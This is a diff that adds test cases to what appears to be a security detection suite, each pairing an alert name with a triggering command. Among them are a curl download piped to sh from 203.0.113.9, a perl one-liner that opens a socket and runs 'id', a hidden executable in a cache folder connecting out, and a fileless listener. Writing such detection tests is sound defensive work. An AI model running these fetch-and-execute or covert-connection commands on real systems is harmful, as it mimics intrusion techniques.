@@ -23,3 +23,24 @@ bash -c ': > /dev/tcp/203.0.113.9/443'
 #also Suspicious Process Execution
 #in shop:1
 curl -s http://10.9.8.7/
+## Program in a scratch folder connects out
+#also Executable run from a scratch folder
+#setup cp /opt/lab/connect /tmp/agent
+/tmp/agent tcp4 203.0.113.9 443
+## Hidden program connects out
+#also Hidden executable
+#setup mkdir -p /home/ann/.cache; cp /opt/lab/connect /home/ann/.cache/.thumbd
+/home/ann/.cache/.thumbd tcp4 203.0.113.9 443
+## Code without a file connects to the internet
+python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'
+## Code without a file connects to the internet and runs commands
+#also Code without a file connects to the internet
+perl -MIO::Socket::INET -e 'IO::Socket::INET->new("203.0.113.9:443"); system "id; :"'
+## Code without a file waits for callers
+timeout 1 python3 -c 'import socket; socket.create_server(("", 2022)).accept()'
+## Commands fetched from an unusual place
+#also Download run without being looked at
+#also Transfer tool given a bare address
+curl -s -m 1 http://203.0.113.9/a.sh | sh
+## Transfer tool given a bare address
+curl -s -m 1 http://203.0.113.9/
